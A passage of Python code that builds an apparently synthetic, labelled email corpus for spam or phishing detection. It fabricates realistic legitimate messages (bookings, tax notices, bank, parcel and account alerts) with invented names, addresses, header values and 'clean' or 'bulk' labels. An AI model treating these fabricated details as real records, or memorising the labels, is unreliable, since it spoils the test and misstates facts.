            rcpt, t, "194.25.134.85", "mailout11.t-online.de", "mailout11.t-online.de", sender, "pass", [], "pass", head,
            body, dmarc_p="none", ctry="DE", lang="de"))


def c_agriturismo_conferma() -> None:
    n = "b9-agriturismo-conferma"
    t = at("2024-06-11 10:14:38")
    rcpt = "giulia.ferraro@libero.it"
    sender = "info@agriturismolequerce.it"
    maps = f"https://maps.app.goo.gl/{an(n, 'maps', 17)}"
    text = f"""Gentile Giulia,

confermiamo con piacere la sua prenotazione presso l'Agriturismo Le Querce:

- camera doppia "Il Fienile" con colazione
- arrivo venerdì 12 luglio, partenza lunedì 15 luglio (3 notti)
- totale soggiorno 360,00 EUR; la caparra di 120,00 EUR è stata ricevuta, grazie.
  Il saldo si effettua all'arrivo, anche con carta.

Il check-in è dalle 15:00 alle 20:00; se arrivate più tardi ci avvisi pure al 0577 844 120.
Qui trova la posizione su Google Maps: {maps}
(l'ultimo tratto è strada bianca, circa 800 metri).

A presto,
Francesca Bindi
Agriturismo Le Querce - Località Poggio, Radda in Chianti (SI)
"""
    head = f"""Received: from webmail.aruba.it ([10.10.10.{num(n, 'wm', 2, 250)}])
\tby smtpdh{num(n, 'dh', 10, 20)}-1.aruba.it with ESMTPSA
\tid {an(n, 'aru', 20)}; {fmt(t - timedelta(seconds=2), "Europe/Rome")}
MIME-Version: 1.0
Date: {fmt(t - timedelta(seconds=3), "Europe/Rome")}
From: {who("Agriturismo Le Querce", sender)}
To: {who("Giulia Ferraro", rcpt)}
Subject: Conferma prenotazione 12-15 luglio
In-Reply-To: <{hx(n, 'irt', 24)}@libero.it>
References: <{hx(n, 'irt', 24)}@libero.it>
Message-ID: <{hx(n, 'mid', 32)}@agriturismolequerce.it>
X-Sender: {sender}
User-Agent: Aruba Webmail"""
    add(Msg(n, "clean",
            "Italian farm-stay owner confirming a guest's booking from the business's own Aruba mailbox, in reply to the "
            "guest's message: deposit already received, balance paid on arrival, Google Maps short link to the location",
            rcpt, t, "62.149.155.14", "smtpdh14-1.aruba.it", "smtpdh14-1.aruba.it", sender, "pass", [], "none", head,
            plain(text), ctry="IT", lang="it"))


def c_it_contractor_migration() -> None:
    n = "b9-it-contractor-migration"
    t = at("2025-09-04 15:48:12")
    rcpt = "dave@brightwater-plumbing.co.uk"
    sender = "mark@ellery-it.co.uk"
    text = """Hi Dave,

Just confirming the plan for moving your email over to Microsoft 365 this weekend:

- Saturday from about 8am I'll switch the domain over. Mail might be delayed for an hour or two, nothing gets lost.
- I'll come in Monday at 7:30 to set up Outlook on your PC and the two phones. I'll bring the new passwords printed out, and we'll set up the Authenticator app together.
- Until then please keep using the old webmail as normal.

One thing: while this is going on you may get emails that look like they're about the move ("verify your mailbox", "your storage is full", "password expiring" etc.). Those won't be from me - I'll never ask you to log in through a link in an email. If in doubt, ring me.

Cheers,
Mark

Mark Ellery
Ellery IT Services - 01632 960 418
"""
    from html import escape
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>'
            '<div style="font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:11pt">'
            + "<br>\n".join(escape(line) for line in text.rstrip().split("\n")) + "</div></body></html>\n")
    head = f"""{dkim(n, "ellery-it.co.uk", "selector1", t, "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck")}
{r_m365_out(n, "LO4P265", "gbrp265", t - timedelta(seconds=2))}
From: {who("Mark Ellery", sender)}
To: {who("Dave Hollis", rcpt)}
Subject: Email move to Microsoft 365 - this Saturday
Thread-Topic: Email move to Microsoft 365 - this Saturday
Thread-Index: {b64(n, 'thi', 30)}==
Date: {fmt(t - timedelta(seconds=3))}
Message-ID: {outlook_mid(n, "LO4P265", "gbrp265")}
Accept-Language: en-GB, en-US
Content-Language: en-GB
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
MIME-Version: 1.0"""
    add(Msg(n, "clean",
            "The small business's IT contractor announcing the weekend Microsoft 365 migration from his own tenant (DKIM/DMARC "
            "pass): no links, passwords handed over in person, and an explicit warning about look-alike mailbox phishing",
            rcpt, t, "40.107.121.108", "mail-lo4gbr01on2108.outbound.protection.outlook.com",
            "GBR01-LO4-obe.outbound.protection.outlook.com", sender, "pass", [("ellery-it.co.uk", "selector1", "pass")],
            "pass", head, alt(n, text, html, "outlook"), dmarc_p="quarantine", score=-0.5))


def c_familia_fotos_jpeg() -> None:
    n = "b9-familia-fotos-jpeg"
    t = at("2023-05-02 18:26:55")
    rcpt = "lucia.romero.v@gmail.com"
    sender = "carmen.romero.g@hotmail.es"
    text = """Hola cariño,

Te mando las fotos de la comunión de Pablo, que las tenía en el móvil y no me acordaba. Salís todos guapísimos.

El domingo comemos en casa de la abuela, ¿venís?

Un beso muy grande,
Mamá

Enviado desde Outlook para Android
"""
    from html import escape
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>'
            '<div dir="auto">' + "<br>\n".join(escape(line) for line in text.rstrip().split("\n")) + "</div></body></html>\n")
    body = mixed(n, [alt(n, text, html, "outlook", 0),
                     att("image/jpeg", "IMG_20230430_131522.jpg", files.photo_jpeg(num(n, 'p1', 1, 999))),
                     att("image/jpeg", "IMG_20230430_134008.jpg", files.photo_jpeg(num(n, 'p2', 1, 999)))], "outlook", 1)
    head = f"""{dkim(n, "hotmail.es", "selector1", t, "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck")}
{r_m365_out(n, "DB9P194", "EURP194", t - timedelta(seconds=2))}
From: {who("Carmen Romero", sender)}
To: {who("Lucía Romero", rcpt)}
Subject: {ew("Fotos comunión Pablo")}
Thread-Topic: {ew("Fotos comunión Pablo")}
Thread-Index: {b64(n, 'thi', 30)}==
Date: {fmt(t - timedelta(seconds=3))}
Message-ID: {outlook_mid(n, "DB9P194", "EURP194")}
Accept-Language: es-ES, en-US
Content-Language: es-ES
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator:
MIME-Version: 1.0"""
    add(Msg(n, "clean",
            "A mother's Outlook.com message to her daughter's Gmail with two holiday-style JPEG photos from a family event; "
            "consumer Outlook infrastructure, authentication passes",
            rcpt, t, "40.92.64.52", "mail-db8eur05olkn2052.outbound.protection.outlook.com",
            "EUR05-DB8-obe.outbound.protection.outlook.com", sender, "pass", [("hotmail.es", "selector1", "pass")], "pass",
            head, body))


def c_bbq_tikkie() -> None:
    n = "b9-bbq-tikkie"
    t = at("2023-07-10 19:58:40")
    rcpt = "pieter@dewitt-thuis.nl"
    sender = "h.verbeek@kpnmail.nl"
    link = f"https://tikkie.me/pay/{an(n, 'tk', 10)}/{an(n, 'tk2', 22)}"
    text = f"""Hoi allemaal,

Wat een top avond was het zaterdag! Zoals beloofd hierbij de Tikkie voor het vlees, de drank en de huur van de partytent: 18,50 p.p.

{link}

Wie nog een schaal of tang bij ons heeft laten staan: ligt in de schuur, kom maar halen.

Groetjes,
Henk

Verstuurd vanaf mijn iPhone
"""
    head = f"""{dkim(n, "kpnmail.nl", "kpnmail01", t, "to:subject:message-id:date:from:mime-version:content-type")}
Received: from smtpclient.apple (86-84-{num(n, 'c1', 1, 250)}-{num(n, 'c2', 1, 250)}.fixed.kpn.net [86.84.{num(n, 'c1', 1, 250)}.{num(n, 'c2', 1, 250)}])
\tby smtp.kpnmail.nl (Halon) with ESMTPSA
\tid {guid(n, 'halon')};
\t{fmt(t - timedelta(seconds=2), "Europe/Amsterdam")}
Content-Type: text/plain; charset=utf-8
Mime-Version: 1.0 (1.0)
From: {who("Henk Verbeek", sender)}
Date: {fmt(t - timedelta(seconds=3), "Europe/Amsterdam")}
Subject: Tikkie BBQ zaterdag
Message-Id: <{guid(n, 'amid').upper()}@kpnmail.nl>
To: {who("Pieter de Witt", rcpt)}, Marloes Jansen <marloes.jansen@ziggo.nl>,
 Ruud en Ellen <ruudenellen@gmail.com>
X-Mailer: iPhone Mail (20F75)"""
    head = "\n".join(line for line in head.split("\n") if not line.startswith("Content-Type:"))
    add(Msg(n, "clean",
            "A friend's iPhone message to several people after a barbecue with a Tikkie payment request (tikkie.me, ABN AMRO's "
            "real payment-request service) for 18,50 each; sent from his own KPN mailbox with DKIM/DMARC pass",
            rcpt, t, "195.121.94.170", "ewsoutbound.kpnmail.nl", "ewsoutbound.kpnmail.nl", sender, "pass",
            [("kpnmail.nl", "kpnmail01", "pass")], "pass", head, plain(text), dmarc_p="reject", ctry="NL", lang="nl"))


def c_parents_drive_link() -> None:
    n = "b9-parents-drive-link"
    t = at("2023-06-26 20:11:37")
    rcpt = "claire@famille-lebreton.fr"
    sender = "sophie.martin.apel@gmail.com"
    link = f"https://drive.google.com/drive/folders/1{an(n, 'drv', 32)}?usp=sharing"
    text = f"""Bonsoir à tous,

Merci encore pour votre aide samedi, la kermesse a rapporté 1 240 € pour la classe verte des CE2 !

Comme promis, voici le dossier avec les photos prises pendant la journée :
{link}

Si vous ne souhaitez pas qu'une photo de votre enfant y reste, dites-le moi et je la retire.

Bonne fin de soirée,
Sophie Martin
Présidente de l'APE - École Jules Ferry
"""
    head = f"""{gmail_sender_head(n, t)}
MIME-Version: 1.0
From: {who("Sophie Martin", sender)}
Date: {fmt(t - timedelta(seconds=3), "Europe/Paris")}
Message-ID: {gmail_mid(n)}
Subject: Photos de la kermesse
To: {who("Claire Lebreton", rcpt)}, Julien Morel <julien.morel35@orange.fr>,
 {who("Nadia Benali", "nadia.benali@free.fr")}, Thomas Roux <t.roux@laposte.net>"""
    add(Msg(n, "clean",
            "Parent-association president writing from Gmail to a few named parents with a Google Drive folder of school-fête "
            "photos; ordinary personal mail, authentication passes",
            rcpt, t, "209.85.128.54", "mail-wm1-f54.google.com", "mail-wm1-f54.google.com", sender, "pass",
            [("gmail.com", gsel(t), "pass")], "pass", head, alt(n, text, gmail_html(text), "gmail"), ctry="US", lang="fr"))


def c_cpa_return_filed() -> None:
    n = "b9-cpa-return-filed"
    t = at("2024-03-12 20:34:27")
    rcpt = "robert.haines@comcast.net"
    sender = "linda@parktaxservices.com"
    text = """Hi Robert,

Good news - both your 2023 federal and Ohio returns were e-filed yesterday and have been accepted.

Federal refund: $1,284, by direct deposit to the checking account ending 7710 (same as last year).
Ohio refund: $212.

The IRS usually issues e-filed refunds within 21 days. You can check the status yourself on the IRS "Where's My Refund?" page at https://www.irs.gov/refunds - you'll need your SSN, filing status and the exact refund amount.

Your signed copies are in the envelope I handed you on Friday. Remember the IRS will never email or text you about a refund; if anything like that shows up, just forward it to me.

Best,
Linda

Linda Park, CPA
Park Tax Services - 614-555-0182
"""
    from html import escape
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>'
            '<div style="font-family:Calibri,Arial,Helvetica,sans-serif;font-size:11pt">'
            + "<br>\n".join(escape(line).replace("https://www.irs.gov/refunds", '<a href="https://www.irs.gov/refunds">https://www.irs.gov/refunds</a>')
                            for line in text.rstrip().split("\n")) + "</div></body></html>\n")
    head = f"""{dkim(n, "parktaxservices.com", "selector1", t, "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck")}
{r_m365_out(n, "CH3PR12", "namprd12", t - timedelta(seconds=2))}
From: {who("Linda Park", sender)}
To: {who("Robert Haines", rcpt)}
Subject: Your 2023 returns - accepted
Thread-Topic: Your 2023 returns - accepted
Thread-Index: {b64(n, 'thi', 30)}==
Date: {fmt(t - timedelta(seconds=3))}
Message-ID: {outlook_mid(n, "CH3PR12", "namprd12")}
Accept-Language: en-US
Content-Language: en-US
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
MIME-Version: 1.0"""
    add(Msg(n, "clean",
            "A tax preparer (CPA) telling her client that his returns were accepted and the refund amounts, pointing only to "
            "irs.gov's 'Where's My Refund'; sent from her firm's Microsoft 365 tenant with aligned DKIM",
            rcpt, t, "40.107.236.71", "mail-ch3nam12on2071.outbound.protection.outlook.com",
            "NAM12-CH3-obe.outbound.protection.outlook.com", sender, "pass", [("parktaxservices.com", "selector1", "pass")],
            "pass", head, alt(n, text, html, "outlook"), dmarc_p="quarantine"))


# ===========================================================================
# Legitimate: notifications, receipts, newsletters, lists (bulk)
# ===========================================================================


def k_chase_alert_genuine() -> None:
    n = "b9-chase-alert-genuine"
    t = at("2023-02-17 23:41:09")
    rcpt = "robert.haines@comcast.net"
    sender = "no.reply.alerts@chase.com"
    html = """<html><head><meta charset="utf-8"></head><body style="margin:0;background:#f6f6f6">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#414042">
<tr><td style="padding:20px 24px"><img src="https://www.chase.com/content/dam/email/images/chase-logo-h-rgb.png" width="120" alt="Chase"></td></tr>
<tr><td style="padding:0 24px"><h2 style="font-weight:normal">Your $84.12 transaction with SHELL OIL 57442</h2>
<table cellpadding="4" style="font-size:14px">
<tr><td>Account</td><td>Chase Freedom Unlimited (...4417)</td></tr>
<tr><td>Date</td><td>Feb 17, 2023 at 6:40 PM ET</td></tr>
<tr><td>Merchant</td><td>SHELL OIL 57442</td></tr>
<tr><td>Amount</td><td>$84.12</td></tr></table>
<p>You are receiving this alert because a transaction you made exceeded $50.00.</p>
<p><a href="https://www.chase.com/personal/mobile-online-banking/login-alerts" style="color:#0060f0">Review account</a> &nbsp;|&nbsp; <a href="https://www.chase.com/digital/customer-service" style="color:#0060f0">Customer service</a></p>
<p style="font-size:12px;color:#717171">Securely access your accounts at <a href="https://www.chase.com" style="color:#0060f0">chase.com</a>. To change or stop these alerts, sign in and go to Profile &amp; settings &gt; Alerts.<br><br>
Don't reply to this alert. Chase will never ask you to send personal information by email.<br>
JPMorgan Chase Bank, N.A. Member FDIC &copy;2023 JPMorgan Chase &amp; Co.</p>
</td></tr></table></td></tr></table></body></html>
"""
    head = f"""{dkim(n, "chase.com", "d4815", t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type")}
Received: from ecomm-prod-app{num(n, 'app', 10, 60)}.jpmchase.net (unknown [10.{num(n, 'i1', 1, 250)}.{num(n, 'i2', 1, 250)}.{num(n, 'i3', 1, 250)}])
\tby mta{num(n, 'mta', 1, 9)}.alerts.chase.com (Postfix) with ESMTP id {hx(n, 'pq', 11).upper()}
\tfor <{rcpt}>; {fmtz(t - timedelta(seconds=1), "America/New_York")}
From: {who("Chase", sender)}
To: {rcpt}
Subject: Your $84.12 transaction with SHELL OIL 57442
Date: {fmt(t - timedelta(seconds=2), "America/New_York")}
Message-ID: <{num(n, 'mid', 10 ** 11, 10 ** 12)}.{hx(n, 'mid2', 16)}@alerts.chase.com>
MIME-Version: 1.0"""
    add(Msg(n, "bulk",
            "Genuine Chase card transaction alert ($84.12 at a gas station) to a Comcast mailbox: chase.com sender with SPF, "
            "DKIM and DMARC (p=reject) passing, links only to chase.com, no request for information",
            rcpt, t, "159.53.110.214", "mta2.alerts.chase.com", "mta2.alerts.chase.com", sender, "pass",
            [("chase.com", "d4815", "pass")], "pass", head, alt(n, html2text(html), html, "java"), dmarc_p="reject",
            score=0))


def k_dhl_paket_genuine() -> None:
    n = "b9-dhl-paket-genuine"
    t = at("2024-11-28 06:12:44")
    rcpt = "k.schmitt@t-online.de"
    sender = "noreply@dhl.de"
    piece = f"00340434{num(n, 'pc', 100000000000, 999999999999)}"
    track = f"https://www.dhl.de/de/privatkunden/pakete-empfangen/verfolgen.html?piececode={piece}"
    html = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;background:#f2f2f2">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Arial,Helvetica,sans-serif;font-size:15px;color:#323232">
<tr><td style="background:#ffcc00;padding:16px 24px"><img src="https://www.dhl.de/content/dam/images/email/dhl-logo.png" width="120" alt="DHL"></td></tr>
<tr><td style="padding:24px">
<h2 style="margin-top:0">Ihr Paket kommt heute</h2>
<p>Guten Tag Karin Schmitt,</p>
<p>Ihre Sendung von <b>Thalia Bücher GmbH</b> wird heute voraussichtlich zwischen <b>10:30 und 13:30 Uhr</b> zugestellt.</p>
<p>Sendungsnummer: {piece}</p>
<p><a href="{track}" style="background:#d40511;color:#ffffff;padding:10px 22px;text-decoration:none">Sendung verfolgen</a></p>
<p>Sie sind nicht zu Hause? Über die Sendungsverfolgung können Sie einen Ablageort oder Nachbarn festlegen.</p>
<p style="font-size:12px;color:#666">Dies ist eine automatisch erstellte E-Mail, bitte antworten Sie nicht darauf. DHL fordert Sie niemals per E-Mail zur Zahlung von Zollgebühren über unbekannte Links auf.<br>
Deutsche Post AG &middot; Charles-de-Gaulle-Str. 20 &middot; 53113 Bonn &middot; <a href="https://www.dhl.de/de/toolbar/footer/datenschutz.html">Datenschutz</a> &middot; <a href="https://www.dhl.de/de/toolbar/footer/impressum.html">Impressum</a></p>
</td></tr></table></body></html>
"""
    head = f"""{dkim(n, "dhl.de", "dhl2023", t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type")}
Received: from notification-app{num(n, 'na', 1, 20)}.dhl.de ([10.{num(n, 'i1', 1, 250)}.{num(n, 'i2', 1, 250)}.{num(n, 'i3', 1, 250)}])
\tby mailout{num(n, 'mo', 1, 6)}.dhl.de with ESMTP id {hx(n, 'pq', 12).upper()}
\tfor <{rcpt}>; {fmt(t - timedelta(seconds=1), "Europe/Berlin")}
From: {who("DHL Paket", sender)}
To: {rcpt}
Subject: Ihr DHL Paket kommt heute
Date: {fmt(t - timedelta(seconds=2), "Europe/Berlin")}
Message-ID: <{guid(n, 'mid')}@dhl.de>
MIME-Version: 1.0"""
    add(Msg(n, "bulk",
            "Genuine DHL Paket 'your parcel arrives today' notification to a t-online.de mailbox: dhl.de sender with aligned "
            "DKIM/DMARC, tracking link to dhl.de with the parcel number, no payment request",
            rcpt, t, "165.72.200.41", "mailout3.dhl.de", "mailout3.dhl.de", sender, "pass", [("dhl.de", "dhl2023", "pass")],
            "pass", head, alt(n, html2text(html), html, "java"), dmarc_p="reject", ctry="DE", lang="de"))


def k_impots_avis_genuine() -> None:
    n = "b9-impots-avis-genuine"
    t = at("2023-08-01 06:02:17")
    rcpt = "jm.lefevre@orange.fr"
    sender = "ne-pas-repondre@dgfip.finances.gouv.fr"
    text = """Madame, Monsieur,

Votre avis d'impôt 2023 sur les revenus 2022 est disponible dans votre espace particulier.

Pour le consulter, connectez-vous à votre espace particulier sur le site impots.gouv.fr, rubrique « Documents ».

Selon votre situation, le montant restant à payer sera prélevé automatiquement ou le remboursement sera effectué sur le compte bancaire que vous nous avez communiqué.

Attention : la DGFiP ne vous demandera jamais vos coordonnées bancaires ou votre numéro de carte par courriel ou par SMS.

Ceci est un message automatique, merci de ne pas y répondre.

La Direction générale des Finances publiques
https://www.impots.gouv.fr
"""
    head = f"""{dkim(n, "dgfip.finances.gouv.fr", "dgfip1", t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type")}
Received: from ppmail{num(n, 'pp', 1, 9)}.dgfip (unknown [10.{num(n, 'i1', 1, 250)}.{num(n, 'i2', 1, 250)}.{num(n, 'i3', 1, 250)}])
\tby smtp-out{num(n, 'so', 1, 4)}.dgfip.finances.gouv.fr (Postfix) with ESMTP id {hx(n, 'pq', 11).upper()}
\tfor <{rcpt}>; {fmtz(t - timedelta(seconds=1), "Europe/Paris")}
Date: {fmt(t - timedelta(seconds=2), "Europe/Paris")}
From: {who("impots.gouv.fr", sender)}
To: {rcpt}
Message-ID: <{num(n, 'mid', 10 ** 12, 10 ** 13)}.{num(n, 'mid2', 100, 999)}.JavaMail.dgfip@ppmail{num(n, 'pp', 1, 9)}>
Subject: {ew("Votre avis d'impôt 2023 est disponible")}
MIME-Version: 1.0"""
    add(Msg(n, "bulk",
            "Genuine DGFiP notice that the 2023 tax assessment is available in the online personal space, to an orange.fr "
            "mailbox: finances.gouv.fr sender with DKIM/DMARC pass, plain text, no link beyond impots.gouv.fr",
            rcpt, t, "145.242.11.4", "smtp-out2.dgfip.finances.gouv.fr", "smtp-out2.dgfip.finances.gouv.fr", sender, "pass",
            [("dgfip.finances.gouv.fr", "dgfip1", "pass")], "pass", head, plain(text), dmarc_p="reject", ctry="FR",
            score=0, lang="fr"))


def k_spotify_recibo_genuine() -> None:
    n = "b9-spotify-recibo-genuine"
    t = at("2024-02-14 08:33:52")
    rcpt = "lucia.romero.v@gmail.com"
    mailfrom = f"bounces+2191533-{hx(n, 'sg', 4)}-lucia.romero.v=gmail.com@email.spotify.com"
    sender = "no-reply@spotify.com"
    html = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;background:#ffffff">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="font-family:Helvetica,Arial,sans-serif;font-size:15px;color:#191414">
<tr><td style="padding:24px"><img src="https://www.scdn.co/i/_global/email/spotify-logo-green.png" width="120" alt="Spotify"></td></tr>
<tr><td style="padding:0 24px">
<h2>Gracias por tu compra</h2>
<p>Hola Lucía, aquí tienes el recibo de tu suscripción.</p>
<table width="100%" cellpadding="6" style="border-top:1px solid #ddd;border-bottom:1px solid #ddd;font-size:14px">
<tr><td>Premium Individual</td><td align="right">10,99 &euro;</td></tr>
<tr><td>Periodo</td><td align="right">14/02/2024 - 13/03/2024</td></tr>
<tr><td>Método de pago</td><td align="right">Visa ···· 2291</td></tr>
<tr><td><b>Total (IVA incluido)</b></td><td align="right"><b>10,99 &euro;</b></td></tr></table>
<p>N.º de pedido: P{num(n, 'ord', 10 ** 14, 10 ** 15)}</p>
<p>Puedes gestionar tu plan en <a href="https://www.spotify.com/es/account/subscription/">tu cuenta</a>.</p>
<p style="font-size:12px;color:#6a6a6a">Spotify AB, Regeringsgatan 19, 111 53 Estocolmo, Suecia. <a href="https://www.spotify.com/es/legal/privacy-policy/">Política de privacidad</a> &middot; <a href="https://support.spotify.com/es/">Asistencia</a></p>
</td></tr></table>
<img src="https://u2191533.ct.sendgrid.net/wf/open?upn=u001.{b64(n, 'open', 100).replace('+', '-').replace('/', '_')}" alt="" width="1" height="1" border="0">
</body></html>
"""
    head = f"""{dkim(n, "spotify.com", "s1", t, "content-type:from:mime-version:subject:to:cc:content-type:from:subject:to")}
{dkim(n, "sendgrid.info", "smtpapi", t, "content-type:from:mime-version:subject:to:cc:content-type:from:subject:to", salt="x")}
Received: by filterdrecv-{hx(n, 'fd', 10)}-{an(n, 'fd2', 5).lower()} with SMTP id filterdrecv-{hx(n, 'fd', 10)}-{an(n, 'fd2', 5).lower()}-1-{hx(n, 'fd3', 8).upper()}-{num(n, 'fd4', 10, 99)}
        {t - timedelta(seconds=2):%Y-%m-%d %H:%M:%S}.{num(n, 'us', 100000000, 999999999)} +0000 UTC m=+{num(n, 'm', 100000, 999999)}.{num(n, 'm2', 100000000, 999999999)}
Received: from spotify-receipts (unknown)
\tby geopod-ismtpd-{num(n, 'gp', 1, 30)} (SG) with HTTP
\tid {b64(n, 'sgid', 22).replace('+', '-').replace('/', '_')}
\tfor <{rcpt}>;
\t{fmt(t - timedelta(seconds=2)).replace('+0000', '+0000 (UTC)')}
Date: {fmt(t - timedelta(seconds=2))}
From: {who("Spotify", sender)}
Mime-Version: 1.0
Message-ID: <{b64(n, 'sgmid', 22).replace('+', '-').replace('/', '_')}@geopod-ismtpd-{num(n, 'gp', 1, 30)}>
Subject: Tu recibo de Spotify
X-SG-EID: {fold(b64(n, 'eid', 150), 76, ' ')}
To: {rcpt}
X-Entity-ID: {b64(n, 'ent', 22)}=="""
    add(Msg(n, "bulk",
            "Genuine Spotify Premium monthly receipt (10,99 €) in Spanish to a Gmail address, sent by Spotify through SendGrid "
            "with aligned spotify.com DKIM and DMARC pass; links only to spotify.com",
            rcpt, t, "149.72.154.232", "o7.ptr4521.email.spotify.com", "o7.ptr4521.email.spotify.com", mailfrom, "pass",
            [("spotify.com", "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], "pass", head,
            alt(n, html2text(html), html, "java"), dmarc_p="reject"))


def k_icloud_almost_full_genuine() -> None:
    n = "b9-icloud-almost-full-genuine"
    t = at("2023-01-09 17:20:05")
    rcpt = "sarah.whitlock84@gmail.com"
    sender = "noreply@email.apple.com"
    html = """<html><head><meta charset="utf-8"></head><body style="margin:0">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="font-family:-apple-system,'SF Pro Text',Helvetica,Arial,sans-serif;font-size:15px;color:#1d1d1f">
<tr><td style="padding:30px 24px 10px"><img src="https://www.icloud.com/system/icloud.com/current/en-us/icloud-icon.png" width="56" alt="iCloud"></td></tr>
<tr><td style="padding:0 24px">
<h1 style="font-size:28px;font-weight:600">Your iCloud storage is almost full.</h1>
<p>You have used 4.8 GB of your 5 GB of iCloud storage. When you run out of storage, new photos and videos won't upload to iCloud Photos, your device won't back up to iCloud, and iCloud Drive and other apps won't update.</p>
<p>You can upgrade to iCloud+ for more storage from your iPhone, iPad or Mac: go to Settings &gt; [your name] &gt; iCloud &gt; Manage Account Storage. You can also free up space by deleting old backups or photos you don't need.</p>
<p><a href="https://support.apple.com/en-gb/HT204247" style="color:#0066cc">Learn how to manage your iCloud storage</a></p>
<p style="font-size:12px;color:#86868b;padding-top:20px">Apple ID: s*******4@gmail.com<br>
<a href="https://appleid.apple.com/" style="color:#86868b">Apple ID</a> | <a href="https://support.apple.com/" style="color:#86868b">Support</a> | <a href="https://www.apple.com/legal/privacy/" style="color:#86868b">Privacy Policy</a><br>
Copyright &copy; 2023 Apple Distribution International Ltd., Hollyhill Industrial Estate, Hollyhill, Cork, Ireland. All rights reserved.</p>
</td></tr></table></td></tr></table></body></html>
"""
    head = f"""{dkim(n, "email.apple.com", "email0517", t, "Content-Type:From:To:Subject:Message-ID:Date:MIME-Version")}
Received: from rn2-txn-msbadger{num(n, 'mb', 10000, 99999)}.apple.com (rn2-txn-msbadger{num(n, 'mb', 10000, 99999)}.apple.com [17.{num(n, 'i1', 100, 200)}.{num(n, 'i2', 1, 250)}.{num(n, 'i3', 1, 250)}])
\tby rn2-txn-msbadger{num(n, 'mb', 10000, 99999)}.apple.com (Oracle Communications Messaging Server 8.1.0.22.20230228 64bit (built Feb 28 2023))
\twith ESMTP id <0RO{an(n, 'occ', 9).upper()}@rn2-txn-msbadger{num(n, 'mb', 10000, 99999)}.apple.com> for {rcpt};
\tMon, 09 Jan 2023 17:20:04 +0000 (GMT)
Date: {fmt(t - timedelta(seconds=2))}
From: {who("iCloud", sender)}
To: {rcpt}
Message-ID: <{guid(n, 'mid')}@email.apple.com>
Subject: Your iCloud storage is almost full.
MIME-Version: 1.0
X-Email-Type-Id: 8912
x-apple-mail-type: icloudstorage"""
    add(Msg(n, "bulk",
            "Genuine Apple 'your iCloud storage is almost full' notice to a Gmail address: email.apple.com sender from Apple's "
            "own 17.0.0.0/8 mailers with DKIM/DMARC pass; tells the user to upgrade from device settings, links only to apple.com",
            rcpt, t, "17.179.250.63", "rn2-txn-msbadger07105.apple.com", "rn2-txn-msbadger07105.apple.com", sender, "pass",
            [("email.apple.com", "email0517", "pass")], "pass", head, alt(n, html2text(html), html, "apple"),
            dmarc_p="reject"))


def k_microsoft_signin_genuine() -> None:
    n = "b9-microsoft-signin-genuine"
    t = at("2024-09-16 07:55:31")
    rcpt = "ben@bcarraway.net"
    sender = "account-security-noreply@accountprotection.microsoft.com"
    html = """<html><head><meta charset="utf-8"></head><body>
<table dir="ltr"><tr><td style="padding:0;font-family:'Segoe UI Semibold','Segoe UI Bold','Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:17px;color:#707070">Microsoft account</td></tr>
<tr><td style="padding:0;font-family:'Segoe UI Light','Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:41px;color:#2672ec">Unusual sign-in activity</td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a">We detected something unusual about a recent sign-in to the Microsoft account <a dir="ltr" style="color:#2672ec;text-decoration:none" href="mailto:be**@bcarraway.net">be**@bcarraway.net</a>. For example, you might be signing in from a new location, device or app.</td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a">To help keep you safe, we've blocked access to your inbox, contacts list, and calendar for that sign-in. Please review your recent activity and we'll help you take corrective action. To regain access, you'll need to confirm that the recent activity was yours.</td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a">Sign-in details<br>Country/region: Portugal<br>IP address: 85.245.118.20<br>Date: 16/09/2024 07:51 (GMT)<br>Platform: iOS<br>Browser: Safari</td></tr>
<tr><td style="padding:0;padding-top:25px"><table border="0" cellspacing="0"><tr><td bgcolor="#2672ec" style="background-color:#2672ec;padding:5px 20px"><a style="font-family:'Segoe UI Semibold',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#fff;text-decoration:none" href="https://account.live.com/Activity">Review recent activity</a></td></tr></table></td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a">To opt out or change where you receive security notifications, <a style="color:#2672ec;text-decoration:none" href="https://account.live.com/SecurityNotifications/Update">click here</a>.</td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a">Thanks,<br>The Microsoft account team</td></tr>
</table></body></html>
"""
    head = f"""{dkim(n, "accountprotection.microsoft.com", "selector1", t, "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck")}
